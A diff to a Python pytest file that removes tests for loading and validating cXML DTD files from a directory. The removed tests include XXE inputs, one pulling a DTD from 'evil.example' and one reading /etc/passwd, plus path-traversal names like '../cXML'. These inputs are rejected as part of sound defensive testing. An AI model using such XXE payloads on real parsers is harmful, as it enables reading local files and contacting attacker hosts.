@@ -1,6 +1,4 @@
-import os
 from concurrent.futures import ThreadPoolExecutor
-from pathlib import Path
 from time import perf_counter
 
 import pytest
@@ -317,59 +315,3 @@ def test_every_sequence_has_a_finite_instance() -> None:
         for name, model in wire.cxml_models(dtd).items():
             if is_sequence(model):
                 assert made.minimal(name), (dtd, name)
-
-
-# The standard's own DTDs, where an operator has them
-
-SMALL_DTD = "<!ELEMENT cXML EMPTY><!ATTLIST cXML payloadID CDATA #REQUIRED>"
-
-
-def test_a_standard_that_is_absent_is_none(tmp_path: Path) -> None:
-    assert wire.standard_dtd(tmp_path, "cXML") is None
-    assert wire.standard_dtd(tmp_path / "absent", "cXML", "1.2.020") is None
-
-
-def test_a_configured_standard_decides(tmp_path: Path) -> None:
-    (tmp_path / "1.2.020").mkdir()
-    (tmp_path / "cXML.dtd").write_text("<!ELEMENT cXML EMPTY>")
-    (tmp_path / "1.2.020" / "cXML.dtd").write_text(SMALL_DTD)
-    newest, pinned = wire.standard_dtd(tmp_path, "cXML"), wire.standard_dtd(tmp_path, "cXML", "1.2.020")
-    assert newest is not None
-    assert pinned is not None
-    assert newest.check(etree.fromstring("<cXML/>")) == ()
-    (deviation,) = pinned.check(etree.fromstring("\n<cXML/>"))
-    assert (deviation.at, deviation.line) == ("/cXML", 2)
-    assert "payloadID" in deviation.message
-
-
-def test_a_standard_that_was_replaced_is_read_anew(tmp_path: Path) -> None:
-    path = tmp_path / "cXML.dtd"
-    path.write_text("<!ELEMENT cXML EMPTY>")
-    first = wire.standard_dtd(tmp_path, "cXML")
-    assert wire.standard_dtd(tmp_path, "cXML") is first
-    path.write_text(SMALL_DTD)
-    os.utime(path, ns=(1, 1))
-    second = wire.standard_dtd(tmp_path, "cXML")
-    assert second is not None
-    assert second.check(etree.fromstring("<cXML/>"))
-
-
-@pytest.mark.parametrize(
-    ("text", "reason"),
-    [
-        ("<!ELEMENT cXML", "cXML.dtd"),
-        ("<!ENTITY % more SYSTEM 'http://evil.example/x.dtd'> %more; <!ELEMENT cXML EMPTY>", "external entity"),
-        ("<!ENTITY x SYSTEM 'file:///etc/passwd'><!ELEMENT cXML EMPTY>", "external entity"),
-        ("", "cXML.dtd"),
-    ],
-)
-def test_a_standard_that_cannot_be_used_says_which_file_and_why(tmp_path: Path, text: str, reason: str) -> None:
-    (tmp_path / "cXML.dtd").write_text(text)
-    with pytest.raises(wire.BadStandard, match=reason):
-        wire.standard_dtd(tmp_path, "cXML")
-
-
-@pytest.mark.parametrize(("name", "version"), [("../cXML", None), ("cXML", "../1.2"), ("cXML", "latest"), ("", None)])
-def test_a_standard_is_asked_for_by_name_and_number(tmp_path: Path, name: str, version: str | None) -> None:
-    with pytest.raises(ValueError, match="not a cXML document type"):
-        wire.standard_dtd(tmp_path, name, version)
